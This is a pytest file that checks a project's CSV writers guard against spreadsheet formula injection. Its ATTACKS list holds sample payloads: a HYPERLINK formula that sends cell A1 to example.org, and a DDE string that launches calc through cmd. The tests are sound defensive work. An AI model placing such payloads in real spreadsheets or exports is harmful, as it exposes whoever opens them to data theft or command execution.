"""Texts that a spreadsheet would run, in every kind of table that is written."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pyarrow as pa
import pytest

from frankpledge.cells import cell, guarded
from frankpledge.cli.shared import show
from frankpledge.packs.parish.rows import FIELDS, csv_text
from frankpledge.releases.downloads.csvw import Field, quoted, table

ATTACKS = (
    '=HYPERLINK("https://example.org/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
)
HARMLESS = ("-3.5", "-1,204", "-", "–", "−23.5 %", "a=b", "", "'=1+1", "14 arrests")


@pytest.mark.parametrize("text", ATTACKS)
def test_what_would_run_gets_an_apostrophe(text: str) -> None:
    """Once: what is guarded stays as it is."""
    assert guarded(text) == f"'{text}"
    assert guarded(guarded(text)) == f"'{text}"


@pytest.mark.parametrize("text", ["\r=1+1", "\r\n=1+1"])
def test_no_line_begins_within_a_text(text: str) -> None:
    """A bare carriage return would end the row for whatever reads it."""
    assert guarded(text) == "'\n=1+1"
    assert guarded(f"a{text}") == "a\n=1+1"
    row = dict.fromkeys(FIELDS) | {"says": f"a{text}"}
    assert [one["says"] for one in _read(csv_text([row]))] == ["a\n=1+1"]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_would_not_is_left_alone(text: str) -> None:
    """Negative numbers, signs for nothing, words."""
    assert guarded(text) == text


@pytest.mark.parametrize("value", [-3, -0.5, None, True, 0])
def test_numbers_are_no_texts(value: object) -> None:
    """A number keeps its type and its sign."""
    assert cell(value) is value


def _read(data: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data, newline="")))


@pytest.mark.parametrize("text", ATTACKS)
def test_tables_of_a_release_hold_no_formula(text: str) -> None:
    """What csv reads back is words, and the number beside it is the number."""
    fields = (Field("name", "A name"), Field("value", "A number", "decimal"))
    assert _read(table(fields, [{"name": text, "value": -3.5}]).decode()) == [
        {"name": f"'{text}", "value": "-3.5"}
    ]
    assert quoted(-7) == "-7"


@pytest.mark.parametrize("text", ATTACKS)
def test_tables_of_a_place_s_pack_hold_no_formula(text: str) -> None:
    """The names of places and priorities come from documents."""
    row = dict.fromkeys(FIELDS) | {"area_name": text, "value": -2.25}
    [found] = _read(csv_text([row]))
    assert found["area_name"] == f"'{text}" and found["value"] == "-2.25"


def test_what_commands_print_as_csv_holds_no_formula(capsys: pytest.CaptureFixture[str]) -> None:
    """It is often sent to a file and opened."""
    show([{"what": "=1+1", "count": -4}], "csv")
    assert capsys.readouterr().out == "what,count\n'=1+1,-4\n"


def test_exported_and_built_tables_hold_no_formula(tmp_path: Path) -> None:
    """Names of areas from a body's own boundaries, and texts of publishers."""
    from frankpledge.areas._write import _write
    from frankpledge.lake.exporting import _bytes

    path = _write(tmp_path / "areas.csv", ("code", "name"), [("E1", "@cmd"), ("E2", -5)])
    assert path.read_text(encoding="utf-8") == "code,name\nE1,'@cmd\nE2,-5\n"
    made = _bytes(pa.table({"name": ["+cmd", "b"], "count": [-1, 2]}), tmp_path / "x.csv")
    assert made.decode() == "name,count\n'+cmd,-1\nb,2\n"


# What a publisher gave is kept as it came; nothing of it is published in this form.
KEPT = {"lake/fetch/_order.py"}


def test_every_writer_of_csv_in_the_house_is_guarded() -> None:
    """Whoever writes rows with Python's csv passes them through `frankpledge.cells`."""
    source = Path(__file__).parents[1] / "src" / "frankpledge"
    writers = {
        path.relative_to(source).as_posix()
        for path in source.rglob("*.py")
        if re.search(r"csv\.(?:writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    }
    assert {"cli/shared.py", "lake/exporting.py", "packs/parish/rows.py"} <= writers
    bare = {
        name
        for name in writers - KEPT
        if "from frankpledge.cells import" not in (source / name).read_text(encoding="utf-8")
    }
    assert bare == set()
